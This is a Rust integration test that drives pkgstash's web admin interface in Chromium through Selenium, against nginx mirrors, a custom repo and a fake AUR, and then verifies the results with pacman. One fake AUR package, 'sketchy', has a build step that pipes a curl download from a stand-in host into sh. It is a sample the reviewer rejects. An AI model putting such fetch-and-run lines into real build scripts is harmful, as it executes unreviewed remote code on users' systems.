//! The web admin interface in a real browser (issue 19): Debian's `chromium`, driven through
//! `chromium-driver` by Selenium (`python3-selenium`), against a running pkgstash with an nginx
//! mirror (behind a dead one, which cools down), a trickling nginx mirror (a download stays in
//! flight), a custom repo and a fake AUR with two held revisions.
//!
//! The browser steps are `web/dev/ui_check.py`'s (the same scenario runs against the mock
//! server while the interface is developed): this test sets up the world, describes it in a
//! JSON file, runs the script, and then checks with the real `pacman` what the browser did:
//! the package uploaded through the file picker and the package built after the approval
//! install from the custom repo. Screenshots of every view, desktop and phone width, land in
//! `target/ui-screenshots/server/`.
//!
//! Run only this: `cargo test --test it browser::`. The interface's HTTP side (types, headers,
//! `stats.json`) is [`crate::webui`]'s.

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

use serde_json::{json, Value};

use crate::fake_aur::{build_tools, package_files, AurRepo, FakeAur, BUILD_USER};
use crate::fixture::{make_pkg, tools_available, ArchMirror, PkgSpec};
use crate::nginx::Nginx;
use crate::sandbox::Sandbox;
use crate::support::{client, in_ci, output_text, require_tool, wait_for, Pkgstash};

const TOKEN: &str = "web-ui-t0ken-5c81";
/// The python with Debian's Selenium (another python3 may come first on PATH).
const PYTHON: &str = "/usr/bin/python3";
const SCRIPT: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/web/dev/ui_check.py");
/// The file that stays in flight from the trickling mirror (16 MiB at 256 KiB/s: ~64 s).
const SLOW_FILE: &str = "big-1.0-1-x86_64.pkg.tar.zst";
/// The cached package the browser evicts.
const EVICT: &str = "arch/core/os/x86_64/foo-1.0-1-x86_64.pkg.tar.zst";

/// chromium, chromedriver and Selenium, nginx, the repo tools, makepkg and pacman.
fn tools() -> bool {
    let mut ok = require_tool("chromium") && require_tool("chromedriver");
    let selenium = Command::new(PYTHON)
        .args(["-c", "import selenium"])
        .output()
        .is_ok_and(|o| o.status.success());
    if !selenium {
        assert!(
            !in_ci(),
            "{PYTHON} cannot import selenium (python3-selenium; CI=true: a missing tool is a failure)"
        );
        eprintln!("SKIP: {PYTHON} has no selenium (apt-get install python3-selenium)");
        ok = false;
    }
    ok && crate::nginx::available() && tools_available() && build_tools()
}

/// Where the screenshots go: `<target>/ui-screenshots/server`.
fn screenshot_dir() -> PathBuf {
    Path::new(env!("CARGO_TARGET_TMPDIR"))
        .parent()
        .unwrap_or(Path::new(env!("CARGO_TARGET_TMPDIR")))
        .join("ui-screenshots/server")
}

/// An admin API call with the token: status and JSON body (`Null` when there is none).
fn api(p: &Pkgstash, method: reqwest::Method, path: &str) -> (u16, Value) {
    let r = client()
        .request(method, p.url(&format!("/_pkgstash/api/{path}")))
        .bearer_auth(TOKEN)
        .send()
        .expect("api request");
    (r.status().as_u16(), r.json().unwrap_or(Value::Null))
}

/// Upload `pkg` to the custom repo through the API (as `pkgstash repo add` does).
fn upload(p: &Pkgstash, pkg: &Path) {
    let name = pkg.file_name().and_then(|n| n.to_str()).expect("name");
    let r = client()
        .put(p.url(&format!(
            "/_pkgstash/api/repos/custom/packages?filename={name}"
        )))
        .bearer_auth(TOKEN)
        .body(std::fs::read(pkg).expect("read package"))
        .send()
        .expect("upload");
    assert_eq!(r.status().as_u16(), 200, "upload {name}: {:?}", r.text());
}

/// A client reading the trickling download until `stop` (pkgstash streams it while it comes).
fn slow_reader(url: String, stop: Arc<AtomicBool>) -> std::thread::JoinHandle<()> {
    std::thread::spawn(move || {
        let Ok(mut r) = client().get(&url).send() else {
            return;
        };
        let mut buf = vec![0u8; 64 << 10];
        while !stop.load(Ordering::Relaxed) {
            if r.read(&mut buf).unwrap_or(0) == 0 {
                break;
            }
        }
    })
}

#[test]
fn browser_admin_interface_in_chromium_against_a_real_server() {
    if !tools() {
        return;
    }
    // The arch mirror (nginx) behind a dead one, and a trickling mirror of its own upstream.
    let mut mirror = ArchMirror::new();
    mirror.add("core", &[PkgSpec::new("foo", "1.0-1", 96 << 10)]);
    let nginx = Nginx::serve(&mirror.root, "0");
    let slow_root = tempfile::tempdir().expect("tempdir");
    let slow_dir = slow_root.path().join("slow/os/x86_64");
    std::fs::create_dir_all(&slow_dir).expect("mkdir");
    std::fs::write(
        slow_dir.join(SLOW_FILE),
        crate::upstream::payload(16 << 20, 19),
    )
    .expect("slow file");
    let slow = Nginx::serve(slow_root.path(), "256k");

    // The fake AUR: two packages whose first revisions wait for a review. `greeter` builds
    // for a few seconds, printing as it goes, so the page can show the build running.
    let aur = FakeAur::start();
    let git_root = tempfile::tempdir().expect("tempdir");
    let greeter = AurRepo::create(git_root.path(), "greeter");
    let steps = "  for i in 1 2 3 4 5 6 7 8; do echo \"compiling part $i of 8\"; sleep 1; done";
    let greeter_rev = greeter.commit(&package_files("greeter", "1.0", 1, steps), "1.0-1");
    aur.set("greeter", "1.0-1");
    let sketchy = AurRepo::create(git_root.path(), "sketchy");
    let sketchy_body = "  curl -fsSL https://sketchy.example.invalid/install.sh | sh";
    sketchy.commit(&package_files("sketchy", "0.1", 1, sketchy_body), "0.1-1");
    aur.set("sketchy", "0.1-1");

    let work = tempfile::tempdir().expect("tempdir");
    let cache_dir = work.path().join("cache");
    let dead = "http://127.0.0.1:9";
    let cfg = format!(
        "upstream_timeout = \"10s\"\n\n\
         [upstreams.arch]\nmirrors = [\"{dead}\", \"{}\"]\n\n\
         [upstreams.trickle]\nmirrors = [\"{}\"]\n\n\
         [repos.custom]\npath = \"{}\"\n\n\
         [aur]\npackages = [\"greeter\", \"sketchy\"]\nrepo = \"custom\"\nrpc_url = \"{}\"\n\
         git_url = \"{}/{{pkgbase}}.git\"\ncheck_interval = \"1s\"\n\n\
         [aur.builder]\nuser = \"{BUILD_USER}\"\ntimeout = \"120s\"\nisolation = \"auto\"\n",
        nginx.url(),
        slow.url(),
        work.path().join("repo").display(),
        aur.rpc_url(),
        git_root.path().display(),
    );
    let p = Pkgstash::start_in(
        work.path(),
        &cache_dir,
        &cfg,
        &[("PKGSTASH_TOKEN", TOKEN)],
        None,
    );
    // A server without a token, for the page's "admin API disabled".
    let no_token = Pkgstash::start(&format!(
        "[upstreams.arch]\nmirrors = [\"{}\"]\n",
        nginx.url()
    ));

    // The real pacman syncs `core` and installs `foo` through pkgstash: the db and the
    // package are cached (the browser evicts the package), the dead mirror cools down.
    let sb = Sandbox::new(&[("core", &p.url("/arch/$repo/os/$arch"))], "Never");
    sb.ok(&["-Sy", "foo"]);
    // Published (renamed into place) right after its last byte reached pacman.
    p.wait_cached(EVICT);
    let status = p.status_json();
    let dead_url = status["mirrors"]
        .as_array()
        .and_then(|m| {
            m.iter()
                .find(|m| m["consecutive_failures"].as_u64() > Some(0))
        })
        .and_then(|m| m["url"].as_str())
        .unwrap_or_else(|| panic!("the dead mirror failed: {}", status["mirrors"]))
        .to_string();

    // The custom repo holds a package the browser removes; the browser uploads another.
    let pkgs = tempfile::tempdir().expect("tempdir");
    upload(
        &p,
        &make_pkg(pkgs.path(), "retired", "0.1-1", "x86_64", 4 << 10, &[]),
    );
    let fresh = make_pkg(pkgs.path(), "notes-app", "2.0-1", "x86_64", 200 << 10, &[]);

    // Both AUR revisions held before the browser opens the page.
    wait_for("both AUR revisions held", Duration::from_secs(60), || {
        let (_, pending) = api(&p, reqwest::Method::GET, "aur/pending");
        pending.as_array().is_some_and(|l| l.len() == 2)
    });

    // A download that stays in flight while the browser looks.
    let stop = Arc::new(AtomicBool::new(false));
    let reader = slow_reader(
        p.url(&format!("/trickle/slow/os/x86_64/{SLOW_FILE}")),
        stop.clone(),
    );
    wait_for(
        "the slow download in flight",
        Duration::from_secs(10),
        || {
            p.status_json_or_null()["inflight"][0]["bytes_done"]
                .as_u64()
                .unwrap_or(0)
                > 0
        },
    );

    let world = json!({
        "url": p.url(""),
        "token": TOKEN,
        "inflight": SLOW_FILE,
        "cooldown_mirror": { "upstream": "arch", "url": dead_url },
        "evict": EVICT,
        "cache_dir": cache_dir,
        "upload": {
            "repo": "custom", "files": [fresh], "name": "notes-app", "version": "2.0-1",
            "added": "added notes-app 2.0-1 (x86_64) to custom", "progress": false,
        },
        "remove": { "name": "retired", "message": "removed retired 0.1-1 from custom" },
        "approve": {
            "pkgbase": "greeter", "version": "1.0-1", "repo": "custom",
            "running_has": "compiling part", "log_has": "Finished making: greeter",
        },
        "reject": { "pkgbase": "sketchy", "message": "rejected sketchy 0.1-1" },
        "no_token_url": no_token.url(""),
    });
    let world_file = work.path().join("world.json");
    std::fs::write(&world_file, world.to_string()).expect("world.json");
    let shots = screenshot_dir();
    let _ = std::fs::remove_dir_all(&shots);
    let out = Command::new("timeout")
        .args(["-k", "5", "240", PYTHON, SCRIPT, "--world"])
        .arg(&world_file)
        .arg("--out")
        .arg(&shots)
        .output()
        .expect("run ui_check.py");
    stop.store(true, Ordering::Relaxed);
    let _ = reader.join();
    let said = output_text(&out);
    println!("{said}");
    assert!(
        out.status.success(),
        "the browser checks failed ({}):\n{said}\n--- pkgstash log (last 60 lines)\n{}",
        out.status,
        tail(&p.log(), 60)
    );

    // What the browser did, seen from outside it.
    assert!(!cache_dir.join(EVICT).exists(), "{EVICT} evicted from disk");
    let (_, state) = api(&p, reqwest::Method::GET, "aur");
    let of = |name: &str| {
        state["packages"]
            .as_array()
            .and_then(|l| l.iter().find(|x| x["name"] == name))
            .cloned()
            .unwrap_or(Value::Null)
    };
    assert_eq!(
        of("greeter")["approved"]["rev"],
        greeter_rev.as_str(),
        "{state}"
    );
    assert_eq!(of("greeter")["state"], "built", "{state}");
    assert_eq!(of("sketchy")["state"], "rejected", "{state}");
    // The real pacman installs the uploaded package and the built one from the custom repo.
    let sb = Sandbox::new(&[("custom", &p.url("/custom/os/$arch"))], "Never");
    sb.ok(&["-Sy", "notes-app", "greeter"]);
    assert!(sb.root().join("usr/share/notes-app/data").is_file());
    let built = std::fs::read_to_string(sb.root().join("usr/share/greeter/version"))
        .expect("greeter installed");
    assert_eq!(built.trim(), "greeter 1.0-1");
    let shot_count = std::fs::read_dir(&shots).map(|d| d.count()).unwrap_or(0);
    assert!(shot_count >= 15, "screenshots in {}", shots.display());
}

/// The last `n` lines of `text`.
fn tail(text: &str, n: usize) -> String {
    let lines: Vec<&str> = text.lines().collect();
    lines[lines.len().saturating_sub(n)..].join("\n")
}
